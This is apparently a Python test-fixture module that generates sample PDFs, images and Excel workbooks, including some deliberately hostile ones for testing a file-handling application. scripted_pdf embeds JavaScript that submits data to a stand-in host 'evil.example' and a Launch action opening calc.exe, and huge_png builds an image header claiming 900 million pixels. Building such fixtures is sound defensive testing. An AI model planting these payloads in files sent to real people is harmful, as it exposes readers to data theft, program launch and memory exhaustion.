"""Real files of each kind, made here: what people send, and what somebody with bad intent would."""

from __future__ import annotations

import struct
import zipfile
import zlib
from datetime import date, datetime, time
from pathlib import Path

import xlsxwriter
from openpyxl import Workbook
from PySide6.QtCore import QBuffer, QByteArray, QMarginsF, QPoint
from PySide6.QtGui import QColor, QImage, QPageSize, QPainter, QPdfWriter


def pdf(path: Path, pages=2) -> Path:
    """Each page says its number."""
    writer = QPdfWriter(str(path))
    writer.setPageSize(QPageSize(QPageSize.PageSizeId.A4))
    writer.setPageMargins(QMarginsF(0, 0, 0, 0))
    painter = QPainter(writer)
    font = painter.font()
    font.setPointSize(32)
    painter.setFont(font)
    for page in range(pages):
        if page:
            writer.newPage()
        painter.fillRect(0, 0, 2000, 2000, QColor("#B3261E" if page == 0 else "#0B6B41"))
        painter.drawText(QPoint(400, 4000), f"Page {page + 1} of drawing")
    painter.end()
    return path


def plain_pdf(catalog: bytes = b"", page: bytes = b"") -> bytes:
    """By hand: what no writer would make."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] " + page + b" >>",
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(made)
    made += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(made)


def scripted_pdf() -> bytes:
    """Runs a script and opens a program when it is opened, if the reader lets it."""
    script = b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('https://evil.example')) >>"
    launch = b"<< /S /Launch /F (calc.exe) >>"
    return plain_pdf(b"/OpenAction " + script, b"/AA << /O " + launch + b" >>")


def image(path: Path, width=60, height=40, kind="PNG") -> Path:
    """Left half red, right half blue."""
    made = QImage(width, height, QImage.Format.Format_RGB32)
    made.fill(QColor("#0000FF"))
    painter = QPainter(made)
    painter.fillRect(0, 0, width // 2, height, QColor("#FF0000"))
    painter.end()
    assert made.save(str(path), kind)
    return path


def turned_jpeg(path: Path) -> Path:
    """60 x 40 as the camera held it, to be turned right (EXIF orientation 6): red is above then."""
    plain = image(path.with_suffix(".plain.jpg"), kind="JPEG").read_bytes()
    tiff = b"MM\0*\0\0\0\x08" + struct.pack(">H", 1) + struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0) + b"\0\0\0\0"
    exif = b"Exif\0\0" + tiff
    path.write_bytes(plain[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + plain[2:])
    return path


def gif_of_two() -> bytes:
    """2 x 2: all red, then all blue."""
    head = b"GIF89a\x02\0\x02\0\x80\0\0" + b"\xff\0\0" + b"\0\0\xff" + b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"

    def frame(color):
        codes = [4, *[color] * 4, 5]
        bits, width, value, at = [], 3, 0, 0
        for code in codes:
            value |= code << at
            at += width
        while at > 0:
            bits.append(value & 0xFF)
            value >>= 8
            at -= 8
        data = bytes(bits)
        control = b"!\xf9\x04\0\x0a\0\0\0"
        return control + b",\0\0\0\0\x02\0\x02\0\0" + b"\x02" + bytes([len(data)]) + data + b"\0"

    return head + frame(0) + frame(1) + b";"


def huge_png(width=30_000, height=30_000) -> bytes:
    """Some bytes that say they are a picture of 900 million pixels."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def image_bytes(kind: str) -> bytes:
    made = QImage(8, 8, QImage.Format.Format_RGB32)
    made.fill(QColor("#123456"))
    data = QByteArray()
    buffer = QBuffer(data)
    buffer.open(QBuffer.OpenModeFlag.WriteOnly)
    assert made.save(buffer, kind)
    return bytes(data)


def xlsx(path: Path) -> Path:
    """Two sheets that are seen and one that is hidden."""
    book = Workbook()
    sheet = book.active
    sheet.title = "見積"
    sheet.append(["品名", "数量", "単価", "日付", "率", "時刻", "式"])
    sheet.append(["スピーカー 髙橋㈱①", 12, 1234567, date(2020, 3, 9), 0.105, time(9, 5), "=B2*C2"])
    sheet["C2"].number_format = "#,##0"
    sheet["D2"].number_format = 'ggge"年"m"月"d"日"'
    sheet["E2"].number_format = "0.0%"
    sheet["F2"].number_format = "h:mm"
    sheet.merge_cells("A4:C4")
    sheet["A4"] = "まとめたセル"
    sheet["A5"] = True
    sheet["B5"] = datetime(2020, 3, 9, 11, 32, 8)  # noqa: DTZ001
    sheet["B5"].number_format = "yyyy/mm/dd hh:mm:ss"
    sheet["C5"] = 1500042
    sheet["C5"].number_format = r"000\-0000"
    hidden = book.create_sheet("内部")
    hidden["A1"] = "見えない"
    hidden.sheet_state = "hidden"
    other = book.create_sheet("一覧")
    other["B3"] = "ここだけ"
    book.save(path)
    return path


def shared_xlsx(path: Path) -> Path:
    """As Excel writes it: cells share their texts, some of which have several looks."""
    with xlsxwriter.Workbook(str(path)) as book:
        page = book.add_worksheet("共有")
        bold = book.add_format({"bold": True})
        for row in range(3):
            page.write_string(row, 0, "同じ文字")
            page.write_string(row, 1, f"違う文字{row}")
        page.write_rich_string(3, 0, "太い", bold, "文字", "です")
        page.write_formula(3, 1, "=1+1", None, 2)
        page.write_boolean(3, 2, True)
        page.write_datetime(3, 3, date(2020, 3, 9), book.add_format({"num_format": 14}))
    return path


def with_part(source: Path, target: Path, part: str, content: bytes) -> Path:
    """The same workbook with one part replaced."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))
    return target
